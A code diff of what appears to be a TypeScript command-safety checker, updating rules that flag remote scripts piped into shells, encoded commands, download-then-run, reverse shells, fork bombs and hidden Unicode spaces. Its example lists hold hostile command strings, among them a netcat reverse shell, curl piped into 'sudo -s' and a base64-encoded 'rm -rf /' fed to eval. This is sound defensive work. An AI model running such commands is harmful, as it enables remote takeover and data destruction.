@@ -1,25 +1,28 @@
 /**
- * Running code the user cannot see on the line: remote scripts piped into a shell, fork bombs,
- * command history replayed, inline interpreter code, reverse shells.
+ * Running code the user cannot see on the line: remote scripts piped into a shell (directly or
+ * through a job runner), encoded commands, fork bombs, command history replayed, inline
+ * interpreter code, reverse shells, and words hidden by look-alike Unicode spaces.
  *
  * @module
  */
 
-import { argView, type Invocation } from "../command.ts";
+import type { Invocation } from "../command.ts";
 import {
+  decoder,
   DOWNLOAD_SUBSTITUTION,
-  DOWNLOADERS,
   readsCodeFromStdin,
   runsCode,
   upstream,
 } from "../match.ts";
-import type { Rule } from "../rule.ts";
-import { decoder, INTERPRETERS, SHELLS } from "../wrappers.ts";
+import { DOWNLOADERS, INTERPRETERS, SHELLS, SOCKET_TOOLS } from "../programs.ts";
+import { rules } from "../rule.ts";
+import { hidesWordBreak } from "../words.ts";
 
-/** The shell or interpreter reads stdin as code and something downloaded feeds it. */
-function pipedFromNetwork(c: Invocation): boolean {
-  return readsCodeFromStdin(c) && upstream(c).some((u) => DOWNLOADERS.has(u.key));
-}
+/** Shells and interpreters: what runs code piped into it. */
+const CODE = [...SHELLS, ...INTERPRETERS];
+
+/** Commands that run code from a file or a string: the shell builtins. */
+const SOURCE = ["eval", "source", ".", "exec"];
 
 function basename(p: string): string {
   return p.slice(p.lastIndexOf("/") + 1);
@@ -47,18 +50,27 @@ function downloadedFiles(c: Invocation): string[] {
   return out.filter((f) => f !== "" && f !== "-");
 }
 
-export const codeRules: Rule[] = [
+/** The command reads its code from stdin, and one of `from` feeds that stdin. */
+function codeFrom(c: Invocation, from: (u: Invocation) => boolean): boolean {
+  return readsCodeFromStdin(c) && upstream(c).some(from);
+}
+
+/** A shell's `-c` code that is only a placeholder filled in at run time (`{}`, `$1`, `$@`). */
+const PLACEHOLDER = /^(\{\}|\$\w+|\$\{\w+\}|\$@|\$\*|\$\d)$/;
+
+export const codeRules = rules([
   {
     id: "code.remote-to-shell",
-    category: "remote-code",
     risk: "critical",
-    commands: [...SHELLS, ...INTERPRETERS, "eval", "source", ".", "exec"],
     reason: "runs a script downloaded from the network without showing it to you",
+    on: [...CODE, ...SOURCE],
     group: "remote",
     evenDryRun: true,
-    match: (c) =>
-      pipedFromNetwork(c) ||
-      ((runsCode(c) || ["eval", "source", ".", "exec"].includes(c.key)) &&
+    // `curl … | sh`, and what reaches a shell through a job runner (`curl … | sudo -s`,
+    // `curl … | parallel`, `curl … | xargs sh -c`), which reads like a shell on the same stdin.
+    match: (_, c) =>
+      codeFrom(c, (u) => DOWNLOADERS.has(u.key)) ||
+      ((runsCode(c) || SOURCE.includes(c.key)) &&
         c.args.some((a) => DOWNLOAD_SUBSTITUTION.test(a))),
     examples: {
       hit: [
@@ -68,24 +80,30 @@ export const codeRules: Rule[] = [
         'eval "$(curl -fsSL https://example.com/install.sh)"',
         "bash <(curl -s https://x.io/s.sh)",
         'sh -c "$(wget -O- https://x.io/s)"',
+        "curl -s https://x.io/s.sh | sudo -s",
+        "curl -s https://x.io/jobs.txt | parallel",
+        "curl -s https://x.io/s.sh | xargs -0 sh -c",
+        "curl -s https://x.io/s.sh | xargs -I{} bash -c '{}'",
+        "curl -s https://x.io/s.sh | nohup bash",
       ],
       miss: [
         "curl -o install.sh https://example.com/install.sh",
         "curl https://x.io | jq .",
         "curl -s https://api.x.io/v1 | python3 -mjson.tool",
         "curl -s https://api.x.io/v1 | python -m json.tool",
+        "curl -s https://x.io/list.txt | xargs -n1 echo",
       ],
     },
   },
   {
     id: "code.obfuscated",
-    category: "code-exec",
     risk: "high",
     reason: "runs commands hidden by encoding (base64, hex, reversed text)",
+    on: "*",
     group: "remote",
     evenDryRun: true,
-    match: (c) =>
-      (readsCodeFromStdin(c) && upstream(c).some((u) => decoder(u) !== undefined)) ||
+    match: (_, c) =>
+      codeFrom(c, (u) => decoder(u) !== undefined) ||
       ((SHELLS.has(c.key) || c.key === "eval" || c.name.startsWith("$")) &&
         [c.name, ...c.args].some((a) =>
           // Two linear tests (one combined pattern backtracks badly on long words).
@@ -97,15 +115,16 @@ export const codeRules: Rule[] = [
         'eval "$(echo cm0gLXJmIC8K | base64 --decode)"',
         "$(echo cm0gLXJmIC8K | base64 -d)",
         "echo / fr- mr | rev | bash",
+        "base64 -d payload.b64 | sudo -s",
       ],
       miss: ["echo aGkK | base64 -d", "base64 -d key.b64 > key"],
     },
   },
   {
     id: "code.download-then-run",
-    category: "remote-code",
     risk: "high",
     reason: "downloads a program and runs it straight away, unseen",
+    on: "*",
     group: "remote",
     evenDryRun: true,
     matchLine: (line) => {
@@ -123,6 +142,7 @@ export const codeRules: Rule[] = [
         "curl -o install.sh https://x.io/install.sh && bash install.sh",
         "wget https://x.io/setup.sh; chmod +x setup.sh; ./setup.sh",
         "curl -fsSLO https://x.io/get.py && python3 get.py",
+        "wget https://x.io/agent && chmod +x agent && nohup ./agent &",
       ],
       miss: [
         "curl -o data.json https://x.io/data.json && jq . data.json",
@@ -132,23 +152,20 @@ export const codeRules: Rule[] = [
   },
   {
     id: "code.history-to-shell",
-    category: "code-exec",
     risk: "high",
-    commands: [...SHELLS, ...INTERPRETERS],
     reason: "re-runs every command in your shell history",
+    on: CODE,
     group: "remote",
-    match: (c) =>
-      readsCodeFromStdin(c) && upstream(c).some((u) => ["history", "fc"].includes(u.key)),
+    match: (_, c) => codeFrom(c, (u) => u.key === "history" || u.key === "fc"),
     examples: { hit: ["history | sh", "history | bash"], miss: ["history | grep ssh"] },
   },
   {
     id: "code.output-to-shell",
-    category: "code-exec",
     risk: "moderate",
-    commands: [...SHELLS, ...INTERPRETERS],
     reason: "runs commands produced by another program, which you cannot see here",
+    on: CODE,
     group: "remote",
-    match: (c) => {
+    match: (_, c) => {
       if (!readsCodeFromStdin(c) || c.stdin?.kind !== "commands") return false;
       // Literal text (`echo 'ls' | sh`) is parsed and rated on its own.
       return !c.stdin.from.every((s) =>
@@ -156,45 +173,45 @@ export const codeRules: Rule[] = [
       );
     },
     examples: {
-      hit: ["cat setup.sh | bash", "python3 gen.py | sh"],
-      miss: ["echo ls | sh", "cat x | grep y"],
+      hit: [
+        "cat setup.sh | bash",
+        "python3 gen.py | sh",
+        "cat jobs.txt | parallel",
+        "./gen-commands | xargs -L1 bash -c",
+        "cat cmds.txt | sudo -i",
+      ],
+      miss: ["echo ls | sh", "cat x | grep y", "cat files.txt | parallel gzip"],
     },
   },
   {
     id: "code.dynamic-shell",
-    category: "code-exec",
     risk: "moderate",
-    commands: [...SHELLS, "eval"],
     reason: "runs shell code built at run time from input or variables",
+    on: [...SHELLS, "eval"],
     group: "remote",
-    match: (c) => {
-      if (!SHELLS.has(c.key) && c.key !== "eval") return false;
+    match: (_, c) => {
       if (c.key === "eval") return c.args.some((a) => /\$|`/.test(a));
       const i = c.args.findIndex((a) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(a));
       if (i < 0) return c.args.length === 0 && c.via.includes("xargs");
       const code = c.args[i + 1];
-      return code === undefined
-        ? c.via.includes("xargs")
-        : /^(\{\}|\$\w+|\$\{\w+\}|\$@|\$\*|\$\d)$/.test(code.trim());
+      return code === undefined ? c.via.includes("xargs") : PLACEHOLDER.test(code.trim());
     },
     examples: {
-      hit: ["echo ok | parallel bash -c {}", 'eval "$CMD"', "xargs sh -c"],
-      miss: ["bash -c 'ls'", "eval ls"],
+      hit: ["echo ok | parallel bash -c {}", 'eval "$CMD"', "xargs sh -c", "xargs -0 bash"],
+      miss: ["bash -c 'ls'", "eval ls", "echo ls | xargs sh -c"],
     },
   },
   {
     id: "code.fork-bomb",
-    category: "fork-bomb",
     risk: "critical",
-    commands: [...INTERPRETERS],
     reason: "a fork bomb: it multiplies processes until the machine freezes",
+    on: [...INTERPRETERS],
     evenDryRun: true,
     matchLine: (line) =>
       line.functions.some((f) => f.spawns && f.calls.includes(f.name)) ||
       /(^|[\s;&|])([\w:.]+)\s*\(\)\s*\{[^}]*\2\s*\|\s*\2\s*&/.test(line.text),
-    match: (c) =>
-      INTERPRETERS.has(c.key) &&
-      c.args.some((a) =>
+    match: (r) =>
+      r.args.some((a) =>
         /fork\s*while\s*fork|while\s*\(?\s*(1|true|True)\s*\)?\s*[:{;]?\s*(os\.)?fork\s*\(|for\s*\(\s*;\s*;\s*\)\s*\{?\s*fork\s*\(/
           .test(a)
       ),
@@ -205,16 +222,16 @@ export const codeRules: Rule[] = [
   },
   {
     id: "code.reverse-shell",
-    category: "remote-code",
     risk: "critical",
     reason: "opens a shell that someone on the network can control",
+    on: "*",
     evenDryRun: true,
-    match: (c) =>
-      (["nc", "ncat", "netcat", "nc.traditional", "socat"].includes(c.key) &&
-        c.args.some((a) => /^-[a-z]*[ec]$/.test(a) || /exec:|system:/i.test(a)) &&
-        c.args.some((a) => /(^|\/)(ba|z|k|da)?sh\b|cmd\.exe|exec:/i.test(a))) ||
-      c.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target)) ||
-      c.args.some((a) => /^\/dev\/(tcp|udp)\/|socket\.socket\(.*(connect|dup2)|pty\.spawn/.test(a)),
+    match: (r, c) =>
+      (SOCKET_TOOLS.has(c.key) &&
+        r.args.some((a) => /^-[a-z]*[ec]$/.test(a) || /exec:|system:/i.test(a)) &&
+        r.args.some((a) => /(^|\/)(ba|z|k|da)?sh\b|cmd\.exe|exec:/i.test(a))) ||
+      c.redirects.some((x) => /^\/dev\/(tcp|udp)\//.test(x.target)) ||
+      r.args.some((a) => /^\/dev\/(tcp|udp)\/|socket\.socket\(.*(connect|dup2)|pty\.spawn/.test(a)),
     examples: {
       hit: [
         "nc -l -p 4444 -e /bin/bash",
@@ -226,30 +243,46 @@ export const codeRules: Rule[] = [
   },
   {
     id: "code.inline-system",
-    category: "code-exec",
     risk: "moderate",
-    commands: [...INTERPRETERS],
     reason: "inline interpreter code runs shell commands or deletes files",
-    match: (c) => {
-      if (!INTERPRETERS.has(c.key)) return false;
-      const code = argView(c.args).positionals.join(" ") + " " + c.args.join(" ");
-      return /\b(os\.system|subprocess|system\s*\(|exec\s*\(|popen|shell_exec|passthru|child_process|execSync|spawn|shutil\.rmtree|os\.remove|os\.unlink|os\.rmdir|unlink\s*\(|rmtree|File\.delete|FileUtils\.rm|fs\.rm|rmSync|unlinkSync)/
-        .test(code) &&
-        c.args.some((a) => /^-[a-zA-Z]*[ecrE]$/.test(a) || a === "--eval");
-    },
+    on: [...INTERPRETERS],
+    match: (r) =>
+      r.args.some((a) => /^-[a-zA-Z]*[ecrE]$/.test(a) || a === "--eval") &&
+      /\b(os\.system|subprocess|system\s*\(|exec\s*\(|popen|shell_exec|passthru|child_process|execSync|spawn|shutil\.rmtree|os\.remove|os\.unlink|os\.rmdir|unlink\s*\(|rmtree|File\.delete|FileUtils\.rm|fs\.rm|rmSync|unlinkSync|do shell script)/
+        .test(r.args.join(" ")),
     examples: {
-      hit: [`perl -e 'system("id")'`, `python -c 'import shutil; shutil.rmtree("/tmp/demo")'`],
+      hit: [
+        `perl -e 'system("id")'`,
+        `python -c 'import shutil; shutil.rmtree("/tmp/demo")'`,
+        `osascript -e 'do shell script "ls"'`,
+      ],
       miss: ["python script.py", "python -c 'print(1)'"],
     },
   },
   {
     id: "code.execution-policy",
-    category: "code-exec",
     risk: "moderate",
-    commands: ["set-executionpolicy"],
     reason: "lowers the PowerShell script execution policy",
-    match: (c) =>
-      c.key === "set-executionpolicy" && c.args.some((a) => /^(unrestricted|bypass)$/i.test(a)),
+    on: "set-executionpolicy",
+    match: (r) => r.args.some((a) => /^(unrestricted|bypass)$/i.test(a)),
     examples: { hit: ["Set-ExecutionPolicy Unrestricted"], miss: ["Get-ExecutionPolicy"] },
   },
-];
+  {
+    id: "code.hidden-space",
+    risk: "moderate",
+    reason: "look-alike Unicode spaces or invisible characters hide how the words really split",
+    on: "*",
+    evenDryRun: true,
+    matchLine: (line) => hidesWordBreak(line.text),
+    examples: {
+      hit: [
+        "rm\u00a0-rf\u00a0/tmp/x",
+        "ls\u2003-la",
+        "git\u3000status",
+        "echo hi;\u200bls",
+        "cat\u202fnotes.txt",
+      ],
+      miss: ["ls -la", "echo 'a\u00a0b'", 'printf "%s\u2003" x', "sed 's/\u00a0/ /g' in.txt"],
+    },
+  },
+]);
